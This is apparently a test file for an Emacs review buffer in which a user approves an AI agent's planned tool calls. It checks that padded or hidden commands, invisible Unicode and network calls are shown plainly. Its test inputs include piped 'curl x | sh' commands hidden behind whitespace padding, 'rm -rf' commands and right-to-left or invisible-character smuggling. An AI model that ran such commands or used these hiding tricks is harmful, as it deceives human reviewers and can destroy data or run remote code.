;;; forj-review-test.el --- The review tells the truth and waits to be read  -*- lexical-binding: t; -*-

;;; Commentary:

;; What the review buffer shows of the calls the real worker plans:
;; padded commands show their tail in an 80-column window, blank-line
;; padding is counted, invisible characters are marked, each call's
;; warnings come first.  And its decision keys: ignored until the
;; review window is selected and a delay has passed since it appeared
;; and since the last key typed elsewhere.

;;; Code:

(require 'ert)
(require 'forj-tools)
(require 'forj-epc-test)
(require 'ediff)

(defun forj-review-test--plan-review (root calls)
  "Plan CALLS (JSON texts) in ROOT through the real worker; return (REVIEW . RUN).
REVIEW is the review buffer, RUN a function returning the results once
the batch ends."
  (let ((buffer (generate-new-buffer "*forj-review-test*"))
        (results 'waiting))
    (let ((stale (get-buffer "*forj-review*")))
      ;; One a failed test left behind must not stand in for this one.
      (when stale (kill-buffer stale)))
    (with-current-buffer buffer
      (dolist (call calls) (insert "```tool-call\n" call "\n```\n"))
      (forj-tools-run-region (point-min) (point-max) (lambda (r) (setq results r)) root))
    (forj-test--wait-for (lambda () (get-buffer "*forj-review*")) 30)
    (cons (get-buffer "*forj-review*")
          (lambda () (unless (eq results 'waiting) results)))))

(defun forj-review-test--call (id cmd)
  "A run_shell call with ID running the shell string CMD, as JSON."
  (json-serialize (list :id id :name "run_shell" :args (list :cmd cmd))))

(defun forj-review-test--show (review)
  "Show REVIEW alone in the selected window, 80 columns wide, from its start."
  (delete-other-windows)
  (switch-to-buffer review)
  (should (= (window-body-width) 80))
  (set-window-start nil (point-min)))

(defun forj-review-test--visible-p (pos)
  "Non-nil if POS is on screen in the selected window.
Not invisible, on one of the window's screen lines counted from its
start, and within its width on that screen line.  Batch Emacs does no
redisplay, so this asks the display engine's line motion, which
honours `truncate-lines', wrapping and prefixes."
  (and (not (invisible-p pos))
       (< (count-screen-lines (window-start) (save-excursion (goto-char pos) (vertical-motion 0) (point)))
          (window-body-height))
       (save-excursion
         (goto-char pos)
         (let ((start (progn (vertical-motion 0) (point))))
           (< (+ (string-width (buffer-substring start pos))
                 ;; The prefix drawn before a screen line's text.
                 (let ((prefix (get-text-property start (if (= start (line-beginning-position))
                                                            'line-prefix
                                                          'wrap-prefix))))
                   (if prefix (string-width prefix) 0)))
              (window-body-width))))))

(defun forj-review-test--all-visible-p (text)
  "Non-nil if TEXT occurs in the review and every occurrence is on screen."
  (save-excursion
    (goto-char (point-min))
    (let ((found 0) (ok t))
      (while (search-forward text nil t)
        (setq found (1+ found))
        (unless (and (forj-review-test--visible-p (match-beginning 0))
                     (forj-review-test--visible-p (1- (match-end 0))))
          (setq ok nil)))
      (and (> found 0) ok))))

(ert-deftest forj-test-review-shows-the-tail-of-a-padded-command ()
  "`pytest -q<300 spaces>; curl x | sh' shows `curl x | sh' in an 80-column window.
Long lines wrap too: a command of 240 visible characters shows its tail."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (save-window-excursion
      (let* ((long (concat "pytest -q --deselect=" (make-string 220 ?a) "; curl y | sh"))
             (run (forj-review-test--plan-review
                   root (list (forj-review-test--call
                               "pad" (concat "pytest -q" (make-string 300 ?\s) "; curl x | sh"))
                              (forj-review-test--call "long" long))))
             (review (car run)))
        (should review)
        (with-current-buffer review
          (should-not truncate-lines)
          (forj-review-test--show review)
          (should (forj-review-test--all-visible-p "curl x | sh"))
          (should (string-match-p "⟨300 \\(?:spaces\\|blanks\\)⟩" (buffer-string)))
          ;; The long one is further down: bring its section to the top.
          (goto-char (point-min))
          (search-forward "--deselect=")
          (forward-line 0)
          (set-window-start nil (point))
          (should (forj-review-test--all-visible-p "curl y | sh"))
          ;; Truncating lines would hide it: the check can tell.
          (setq truncate-lines t)
          (should-not (forj-review-test--all-visible-p "curl y | sh"))
          (setq truncate-lines nil)
          (forj-review-deny-all)
          (forj-review-commit))
        (should (forj-test--wait-for (cdr run) 30))))))

(ert-deftest forj-test-review-counts-blank-line-padding ()
  "200 blank lines before the real command show as one counted line, the command on screen."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (save-window-excursion
      (let* ((run (forj-review-test--plan-review
                   root (list (forj-review-test--call
                               "blank" (concat "true" (make-string 200 ?\n) "   \n\t\ncurl x | sh")))))
             (review (car run)))
        (with-current-buffer review
          (forj-review-test--show review)
          (should (string-match-p "⟨[0-9]\\{3\\} blank lines⟩" (buffer-string)))
          (should (forj-review-test--all-visible-p "curl x | sh"))
          ;; No run of more than two blank lines is left anywhere.
          (should-not (string-match-p "\n[ \t]*\n[ \t]*\n[ \t]*\n[ \t]*\n" (buffer-string)))
          (forj-review-quit))
        (should (forj-test--wait-for (cdr run) 30))))))

(ert-deftest forj-test-review-counts-padding-of-blank-filled-lines ()
  "Lines of nothing but blanks in a script count as blank lines: one counted line."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (save-window-excursion
      (let* ((run (forj-review-test--plan-review
                   root (list (forj-review-test--call
                               "pad" (concat "true\n" (apply #'concat (make-list 40 "   \n"))
                                             "curl x | sh")))))
             (review (car run)))
        (with-current-buffer review
          (forj-review-test--show review)
          ;; The command's line comes right after the counted line.
          (should (string-match-p "⟨40 blank lines⟩\n│ curl x | sh\n" (buffer-string)))
          (should-not (string-match-p "⟨3 blanks⟩" (buffer-string)))
          (forj-review-quit))
        (should (forj-test--wait-for (cdr run) 30))))))

(ert-deftest forj-test-review-shows-right-to-left-text-in-the-order-it-runs ()
  "Hebrew or Arabic letters in a command do not reorder the review's display."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (save-window-excursion
      (let* ((run (forj-review-test--plan-review
                   root (list (forj-review-test--call
                               "rtl" "\u05d0\u05d1 ; rm -rf x ; echo \u0627\u0644"))))
             (review (car run)))
        (with-current-buffer review
          (should (string-match-p "\u05d0\u05d1 ; rm -rf x" (buffer-string)))
          (should-not bidi-display-reordering)
          (should (eq bidi-paragraph-direction 'left-to-right))
          (forj-review-quit))
        (should (forj-test--wait-for (cdr run) 30))))))

(ert-deftest forj-test-review-shows-a-preview-verbatim-behind-a-gutter ()
  "Preview lines keep their own indentation; forj's gutter is a display prefix."
  (forj-test-with-project '(("f.py" . "def f():\n    return 1\n"))
    (save-window-excursion
      (let* ((run (forj-review-test--plan-review
                   root (list "{\"id\": \"r\", \"name\": \"read_file\", \"args\": {\"path\": \"f.py\"}}"
                              "{\"id\": \"e\", \"name\": \"edit\", \"args\": {\"path\": \"f.py\", \"old_string\": \"return 1\", \"new_string\": \"return 2\"}}")))
             (review (car run)))
        (with-current-buffer review
          (goto-char (point-min))
          (should (re-search-forward "^-    return 1$" nil t))
          (should (get-text-property (line-beginning-position) 'line-prefix))
          (should (re-search-forward "^\\+    return 2$" nil t))
          ;; forj's own lines have no gutter.
          (goto-char (point-min))
          (should (re-search-forward "^\\[        \\] " nil t))
          (should-not (get-text-property (line-beginning-position) 'line-prefix))
          (forj-review-deny-all)
          (forj-review-commit))
        (should (forj-test--wait-for (cdr run) 30))))))

(defun forj-review-test--raw-invisible (text)
  "The characters of TEXT the review must never show raw."
  (cl-remove-if-not
   (lambda (c)
     (or (memq (get-char-code-property c 'general-category) '(Cf Zl Zp Co))
         (and (eq (get-char-code-property c 'general-category) 'Zs) (/= c ?\s))
         (<= #xE0000 c #xE007F)))
   (string-to-list text)))

(ert-deftest forj-test-review-marks-invisible-characters ()
  "Invisible and format characters in a diff and a summary show as ⟨U+XXXX⟩, with a warning on top."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (let* ((hidden (concat "x\u00ady\u200bz\u2028w\u2029v\u202eu\u2066t\u180es\U000E0041r\u00a0q\u3000p\ue000o"
                           "\u2764\ufe0f"))
           (run (forj-review-test--plan-review
                 root (list (json-serialize
                             (list :id "w" :name "write_file"
                                   :args (list :path "new.txt" :content (concat hidden "\n")))))))
           (review (car run)))
      (with-current-buffer review
        (let ((text (buffer-string)))
          (should (null (forj-review-test--raw-invisible text)))
          (dolist (code '("00AD" "200B" "2028" "2029" "202E" "2066" "180E" "E0041" "00A0" "3000" "E000"
                          "FE0F"))
            (should (string-match-p (format "⟨U\\+%s⟩" code) text)))
          ;; A variation selector draws nothing of its own (a run of them can
          ;; carry a hidden text): marked, even after an emoji.
          (should (string-match-p "\u2764⟨U\\+FE0F⟩" text))
          (goto-char (point-min))
          (should (looking-at-p "⚠ This review shows [0-9]+ invisible or format characters"))))
      ;; Texts Emacs itself shows are marked as well: a reason, for one.
      (with-current-buffer review
        (forj-review-decide "w" (cons 'deny "no\u200b way"))
        (should (string-match-p "reason: no⟨U\\+200B⟩ way" (buffer-string)))
        (forj-review-commit))
      (should (forj-test--wait-for (cdr run) 30)))))

(ert-deftest forj-test-review-marking-covers-each-category ()
  "Each category the review marks, and what it leaves alone."
  (should (equal (substring-no-properties
                  (forj-review-mark-invisible "a b\tc\u00a0\u1680\u2000\u200a\u202f\u205f\u3000"))
                 "a b\tc⟨U+00A0⟩⟨U+1680⟩⟨U+2000⟩⟨U+200A⟩⟨U+202F⟩⟨U+205F⟩⟨U+3000⟩"))
  (should (equal (substring-no-properties
                  (forj-review-mark-invisible "\u200e\u200f\u202a\u202e\u2066\u2069\u061c\ufeff\u2060"))
                 "⟨U+200E⟩⟨U+200F⟩⟨U+202A⟩⟨U+202E⟩⟨U+2066⟩⟨U+2069⟩⟨U+061C⟩⟨U+FEFF⟩⟨U+2060⟩"))
  (should (equal (substring-no-properties
                  (forj-review-mark-invisible "\U000E0000\U000E0001\U000E007F\U000F0000\U0010FFFD\ue000"))
                 "⟨U+E0000⟩⟨U+E0001⟩⟨U+E007F⟩⟨U+F0000⟩⟨U+10FFFD⟩⟨U+E000⟩"))
  ;; What a display draws as nothing though it is no format character:
  ;; variation selectors (a byte each in U+E0100..U+E01EF), fillers, the
  ;; combining grapheme joiner.
  (should (equal (substring-no-properties
                  (forj-review-mark-invisible "\ufe0e\U000E0100\U000E01EF\u3164\u115f\u034f\u180b"))
                 "⟨U+FE0E⟩⟨U+E0100⟩⟨U+E01EF⟩⟨U+3164⟩⟨U+115F⟩⟨U+034F⟩⟨U+180B⟩"))
  ;; Letters, combining accents and emoji stay.
  (should (equal (forj-review-mark-invisible "e\u0301 ✓ 日本 🙂") "e\u0301 ✓ 日本 🙂"))
  ;; Markers are drawn in their own face, so quoted text cannot pass for one.
  (should (eq (get-text-property 0 'face (forj-review-mark-invisible "\u200b")) 'forj-review-marker)))

(ert-deftest forj-test-review-network-call-warns-in-its-first-line ()
  "A command that asks for network is reviewed with the worker's warning as its first line."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (let* ((run (forj-review-test--plan-review
                 root (list (json-serialize
                             (list :id "net" :name "run_shell"
                                   :args (list :cmd ["curl" "-sS" "https://example.org"]
                                               :allow_network t))))))
           (review (car run)))
      (with-current-buffer review
        (goto-char (point-min))
        (should (re-search-forward
                 "^⚠ .*network.*\n\\[        \\] high   \\[network\\] Run curl" nil t))
        (forward-line -1)
        (should (equal (get-text-property (point) 'forj-review-id) "net"))
        (should (memq 'forj-review-warning (ensure-list (get-text-property (+ 2 (point)) 'face))))
        (forj-review-quit))
      (should (forj-test--wait-for (cdr run) 30)))))

(ert-deftest forj-test-review-curl-shows-method-url-and-redacted-headers ()
  "A curl call's review shows its method, URL and headers, credentials redacted."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (with-temp-file (getenv "FORJ_CONFIG")
      (insert "[network]\nallowed_domains = [\"docs.example.org\"]\n"))
    (let* ((run (forj-review-test--plan-review
                 root (list (json-serialize
                             (list :id "web" :name "curl"
                                   :args (list :url "https://docs.example.org/guide?page=2"
                                               :headers (list :Authorization "Bearer tok-1234-secret"
                                                              :Accept "text/html")))))))
           (review (car run)))
      (with-current-buffer review
        (let ((text (buffer-substring-no-properties (point-min) (point-max))))
          (should (string-match-p "\\[network\\] curl GET https://docs\\.example\\.org/guide\\?page=2" text))
          (should (string-match-p "^GET https://docs\\.example\\.org/guide\\?page=2$" text))
          (should (string-match-p "^  Authorization: \\[REDACTED\\]$" text))
          (should (string-match-p "^  Accept: text/html$" text))
          (should (string-match-p "reaches the network" text))
          (should-not (string-match-p "tok-1234-secret" text)))
        (forj-review-quit))
      (should (forj-test--wait-for (cdr run) 30)))))

(ert-deftest forj-test-review-shows-call-warnings-first ()
  "A plan item's warnings are the first lines of its section, in the warning face."
  (save-window-excursion
    (let* ((review (forj-review-open
                    (list (list :id "n" :name "run_shell" :disposition "confirm" :risk "high"
                                :summary "Run curl example.org"
                                :warnings ["This command gets network access."
                                           "This command runs unsandboxed (bubblewrap is missing)."]
                                :preview "$ curl example.org\n"))
                    #'ignore)))
      (with-current-buffer review
        (goto-char (point-min))
        (forward-line 2)
        (should (looking-at-p "⚠ This command gets network access.\n⚠ This command runs unsandboxed (bubblewrap is missing).\n\\[        \\] high   Run curl example.org\n"))
        (should (memq 'forj-review-warning (ensure-list (get-text-property (+ 2 (point)) 'face))))
        (should (equal (get-text-property (point) 'forj-review-id) "n"))
        (forj-review-deny-all)
        (forj-review-commit)))))

;;; Windows: the review puts back what it found

(defun forj-review-test--layout ()
  "The frame's windows: each one's buffer and edges, and which is selected."
  (list (mapcar (lambda (window) (list (buffer-name (window-buffer window)) (window-edges window)))
                (window-list nil 'nomini))
        (buffer-name (window-buffer (selected-window)))))

(defmacro forj-review-test-with-layout (&rest body)
  "Run BODY in a frame showing two buffers side by side, `chat' selected.
`before' is bound to that layout."
  (declare (indent 0) (debug t))
  `(save-window-excursion
     (let ((chat (get-buffer-create "*forj-review-test-chat*"))
           (other (get-buffer-create "*forj-review-test-other*")))
       (unwind-protect
           (progn
             (delete-other-windows)
             (switch-to-buffer other)
             (select-window (split-window-right))
             (switch-to-buffer chat)
             ;; A batch Emacs counts its frame's menu bar line only once a
             ;; configuration is set; set one, so the first layout is final.
             (set-window-configuration (current-window-configuration))
             (let ((before (forj-review-test--layout)))
               ,@body))
         (kill-buffer chat)
         (kill-buffer other)))))

(defun forj-review-test--write-call (id path)
  "A write_file call with ID creating PATH, as JSON."
  (json-serialize (list :id id :name "write_file" :args (list :path path :content "new\n"))))

(ert-deftest forj-test-review-windows-come-back-after-approve-deny-cancel-and-kill ()
  "The windows before a review are the windows after it: approved, denied, cancelled or killed."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (forj-review-test-with-layout
      (dolist (finish (list (lambda () (forj-review-approve-all) (forj-review-commit))
                            (lambda () (forj-review-deny-all) (forj-review-commit))
                            (lambda () (forj-review-cancel))
                            (lambda () (kill-buffer (current-buffer)))))
        (let* ((run (forj-review-test--plan-review
                     root (list (forj-review-test--write-call "w" "new.txt"))))
               (review (car run)))
          (should review)
          ;; It opened where `forj-display-review' says: below the selected window.
          (let ((window (get-buffer-window review)))
            (should window)
            (should (eq (selected-window) window))
            (should (eq (window-in-direction 'above window) (get-buffer-window "*forj-review-test-chat*"))))
          (should-not (equal (forj-review-test--layout) before))
          (with-current-buffer review (funcall finish))
          (should (equal (forj-review-test--layout) before))
          (should (forj-test--wait-for (cdr run) 30))
          ;; A file written and never read is refused before any review.
          (ignore-errors (delete-file (expand-file-name "new.txt" root)))
          (dolist (buffer (buffer-list))
            (when (string-prefix-p "*forj-review-test*" (buffer-name buffer))
              (kill-buffer buffer))))))))

(ert-deftest forj-test-review-leaves-a-layout-the-user-changed-alone ()
  "A user who rearranged the windows during the review keeps the new layout."
  (forj-test-with-project '(("a.txt" . "a\n"))
    (forj-review-test-with-layout
      (let* ((run (forj-review-test--plan-review
                   root (list (forj-review-test--write-call "w" "new.txt"))))
             (review (car run))
             (extra (get-buffer-create "*forj-review-test-extra*")))
        ;; The user opens one more window while the review waits.
        (with-selected-window (get-buffer-window "*forj-review-test-other*")
          (switch-to-buffer extra)
          (split-window-below))
        (let ((changed (forj-review-test--layout)))
          (with-current-buffer review (forj-review-deny-all) (forj-review-commit))
          (should-not (get-buffer-window review))
          ;; Only the review's own window went away.
          (should (= (length (window-list nil 'nomini)) (1- (length (car changed)))))
          (should (get-buffer-window extra)))
        (should (forj-test--wait-for (cdr run) 30))
        (kill-buffer extra)))))

(ert-deftest forj-test-review-ediff-puts-windows-back-and-shows-the-users-diff ()
  "After ediff the review is back where it was, showing the diff of the user's text.
After the commit the windows are those before the review."
  (forj-test-with-project '(("f.py" . "a = 1\nb = 2\n"))
    (forj-review-test-with-layout
      (let* ((ediff-window-setup-function #'ediff-setup-windows-plain)
             (run (forj-review-test--plan-review
                   root (list "{\"id\": \"r\", \"name\": \"read_file\", \"args\": {\"path\": \"f.py\"}}"
                              "{\"id\": \"e\", \"name\": \"edit\", \"args\": {\"path\": \"f.py\", \"old_string\": \"b = 2\", \"new_string\": \"b = 3\"}}")))
             (review (car run))
             (in-review nil)
             proposed)
        (with-current-buffer review
          (setq in-review (forj-review-test--layout))
          (should (string-match-p "^\\+b = 3$" (buffer-string)))
          (goto-char (point-min))
          (search-forward "b = 3")
          (forj-review-edit))
        (should (forj-test--wait-for
                 (lambda () (setq proposed (get-buffer "*forj-proposed: f.py*"))) 30))
        (should-not (equal (forj-review-test--layout) in-review))
        (with-current-buffer proposed
          (goto-char (point-min))
          (search-forward "b = 3")
          (replace-match "b = 30")
          (goto-char (point-max))
          (insert "c = 4\n"))
        (let ((control (cl-find-if (lambda (b) (string-prefix-p "*Ediff Control" (buffer-name b)))
                                   (buffer-list))))
          (with-current-buffer control
            (cl-letf (((symbol-function 'y-or-n-p) (lambda (&rest _) t)))
              (ediff-quit nil))))
        ;; Ediff's windows are gone: the review is where it was, selected.
        (should (equal (forj-review-test--layout) in-review))
        (with-current-buffer review
          ;; The diff shown becomes the user's once it is computed.
          (should (forj-test--wait-for
                   (lambda () (string-match-p "^\\+c = 4$" (buffer-string))) 10))
          (let ((text (buffer-string)))
            (should (string-match-p "^\\+b = 30$" text))
            (should-not (string-match-p "^\\+b = 3$" text))
            (should (string-match-p "^-b = 2$" text))
            (should (string-match-p "you edited: f.py (the diff below is of your text" text)))
          (forj-review-commit))
        (should (equal (forj-review-test--layout) before))
        (should (forj-test--wait-for (cdr run) 30))
        (should (equal (with-temp-buffer
                         (insert-file-contents (expand-file-name "f.py" root))
                         (buffer-string))
                       "a = 1\nb = 30\nc = 4\n"))))))

(ert-deftest forj-test-review-user-diff-replaces-only-its-files-piece ()
  "In a preview of several files, the user's diff replaces the piece of the file edited."
  (let ((preview "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\nnote: kept\n--- a/g\n+++ b/g\n@@ -1 +1 @@\n-c\n+d\n"))
    (should (equal (forj-review--with-user-diffs
                    preview '(("g" . "--- a/g\n+++ b/g\n@@ -1 +1 @@\n-c\n+mine\n")))
                   "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\nnote: kept\n--- a/g\n+++ b/g\n@@ -1 +1 @@\n-c\n+mine\n"))
    ;; Still being computed: the proposal stays.
    (should (equal (forj-review--with-user-diffs preview '(("g" . pending))) preview))))

;;; Keys meant for another buffer

(defmacro forj-review-test-with-review (&rest body)
  "Run BODY with `chat' a buffer in one window and `review' a fresh review.
`decided' is set to the decisions when the review commits."
  (declare (indent 0) (debug t))
  `(save-window-excursion
     (let* ((chat (generate-new-buffer "*forj-review-test-chat*"))
            (decided nil)
            (review nil))
       (unwind-protect
           (progn
             (delete-other-windows)
             (switch-to-buffer chat)
             (setq review (forj-review-open
                           (list (list :id "c1" :disposition "confirm" :risk "high"
                                       :summary "Run rm -rf build" :preview "$ rm -rf build\n"))
                           (lambda (approved denied _modified &optional cancelled _grants)
                             (setq decided (list approved denied cancelled)))))
             ,@body)
         (when (buffer-live-p review)
           (with-current-buffer review (setq forj-review-callback nil))
           (kill-buffer review))
         (kill-buffer chat)))))

(defun forj-review-test--keys (keys)
  "Type KEYS as the user would; return the `user-error' message if one was signalled."
  (condition-case err
      (progn (execute-kbd-macro (kbd keys)) nil)
    (user-error (cadr err))))

(ert-deftest forj-test-review-ignores-keys-right-after-it-appears ()
  "C-c C-c and a typed right after the review appears are ignored, with a message; later they act."
  (let ((forj-review-input-delay 30))
    (forj-review-test-with-review
      (should (eq (window-buffer (selected-window)) review))
      (should (string-match-p "Key ignored" (forj-review-test--keys "a")))
      (should (string-match-p "Key ignored" (forj-review-test--keys "C-c C-c")))
      (should-not decided)
      (with-current-buffer review
        (should-not (gethash "c1" forj-review--decisions)))
      ;; Moving around is never delayed.
      (should-not (forj-review-test--keys "p"))
      (setq forj-review-input-delay 0.05)
      (sleep-for 0.3)
      (should-not (forj-review-test--keys "a"))
      (with-current-buffer review
        (should (eq (gethash "c1" forj-review--decisions) t)))
      (should-not (forj-review-test--keys "C-c C-c"))
      (should (equal decided '(("c1") nil nil))))))

(ert-deftest forj-test-review-ignores-keys-until-focused ()
  "Decision keys act only when the review window is selected, however long it waited."
  (let ((forj-review-input-delay 0.05))
    (forj-review-test-with-review
      (let ((review-window (get-buffer-window review)))
        ;; The user goes on in the chat's window; the review waits in its own.
        (select-window (split-window))
        (switch-to-buffer chat)
        (sleep-for 0.3)
        (with-current-buffer review
          (should (string-match-p "select the review window"
                                  (condition-case err
                                      (progn (call-interactively #'forj-review-approve) nil)
                                    (user-error (cadr err)))))
          (should-not (gethash "c1" forj-review--decisions)))
        (select-window review-window)
        (sleep-for 0.3)
        (should-not (forj-review-test--keys "d"))
        (should-not (forj-review-test--keys "C-c C-c"))
        (should (equal decided '(nil (("c1" . "")) nil)))))))

(ert-deftest forj-test-review-keys-typed-elsewhere-or-ignored-restart-the-delay ()
  "Typing in another buffer, or a key the review ignores, restarts the delay."
  (let ((forj-review-input-delay 0.4))
    (forj-review-test-with-review
      (let ((review-window (get-buffer-window review))
            (chat-window (select-window (split-window))))
        (switch-to-buffer chat)
        (sleep-for 1.0)
        ;; Keys typed in the chat, then at once a key in the review.
        (should-not (forj-review-test--keys "h i"))
        (with-current-buffer chat (should (equal (buffer-string) "hi")))
        (select-window review-window)
        (should (string-match-p "Key ignored" (forj-review-test--keys "A")))
        (sleep-for 1.0)
        ;; A key that is neither a decision nor a move, typed here, does too.
        (ignore-errors (execute-kbd-macro (kbd "x")))
        (should (string-match-p "Key ignored" (forj-review-test--keys "A")))
        (sleep-for 1.0)
        (should-not (forj-review-test--keys "A"))
        (with-current-buffer review
          (should (eq (gethash "c1" forj-review--decisions) t)))
        (ignore chat-window)))))

(ert-deftest forj-test-review-lisp-callers-are-not-delayed ()
  "The delay guards keys only: the chat's stop cancels a fresh review at once."
  (let ((forj-review-input-delay 30))
    (forj-review-test-with-review
      (with-current-buffer review (forj-review-cancel))
      (should (equal decided '(nil (("c1" . "")) t))))))

;;; Grants, reasons, help

(ert-deftest forj-test-review-help-lists-the-grant-keys ()
  "`?' shows the list of keys at the top of the review, grant keys included; `?' again hides it."
  (let ((forj-review-input-delay 0))
    (forj-review-test-with-review
      (with-current-buffer review
        (should-not (string-match-p "Keys of the review" (buffer-string)))
        (execute-kbd-macro (kbd "?"))
        (let ((text (buffer-string)))
          (should (string-match-p "^Keys of the review (\\? hides this list):" text))
          (should (string-match-p "^  a  approve the call at point, this once" text))
          (should (string-match-p "^  s  approve, and grant the rule for this chat" text))
          (should (string-match-p "^  m  approve, and grant the rule for this chat for N minutes" text))
          (should (string-match-p "^  !  approve, and grant the rule always, in every chat of this project" text))
          (should (string-match-p "M-x forj-permissions lists and revokes grants" text)))
        ;; Help is not a decision: nothing was decided, and the call is still listed.
        (should-not (gethash "c1" forj-review--decisions))
        (should (string-match-p "Run rm -rf build" (buffer-string)))
        (execute-kbd-macro (kbd "?"))
        (should-not (string-match-p "Keys of the review" (buffer-string)))))))

(ert-deftest forj-test-review-shows-reason-rule-and-mode-note ()
  "Each call says why it is reviewed and which rule a grant would use; the mode note comes first.
The rule is the worker's text: key descriptions in it are not substituted."
  (save-window-excursion
    (let* ((decided nil)
           (review (forj-review-open
                    (list (list :id "t" :name "run_shell" :disposition "confirm" :risk "medium"
                                :summary "Run pytest -q" :preview "$ pytest -q\n"
                                :reason "reviewed: run_shell always asks in 'ask'"
                                :grant_pattern "run_shell(pytest \\[forj-review-approve] *)"))
                    (lambda (&rest args) (setq decided args))
                    nil
                    (list :mode-note "auto is not enabled in your own config file; this chat uses accept-edits"))))
      (with-current-buffer review
        (let ((text (buffer-string)))
          (should (string-match-p "^⚠ auto is not enabled in your own config file" text))
          (should (string-match-p "^    why: reviewed: run_shell always asks in 'ask'$" text))
          (should (string-match-p (regexp-quote "a grant would cover: run_shell(pytest \\[forj-review-approve] *)")
                                  text)))
        (forj-review-grant "t" "project" "run_shell(pytest *)")
        (should (string-match-p "grant: always, in every chat of this project, rule run_shell(pytest \\*)"
                                (buffer-string)))
        ;; A denial takes the grant back; approving once does not grant.
        (forj-review-decide "t" (cons 'deny nil))
        (should-not (gethash "t" forj-review--grants))
        (forj-review-grant "t" "session" "run_shell(pytest *)")
        (goto-char (point-min))
        (search-forward "Run pytest")
        (forj-review-approve)
        (should-not (gethash "t" forj-review--grants))
        (forj-review-grant "t" "minutes" "run_shell(pytest *)" 15)
        (forj-review-commit))
      (should (equal decided '(("t") nil nil nil
                               (("t" :scope "minutes" :pattern "run_shell(pytest *)" :minutes 15))))))))

(provide 'forj-review-test)
;;; forj-review-test.el ends here
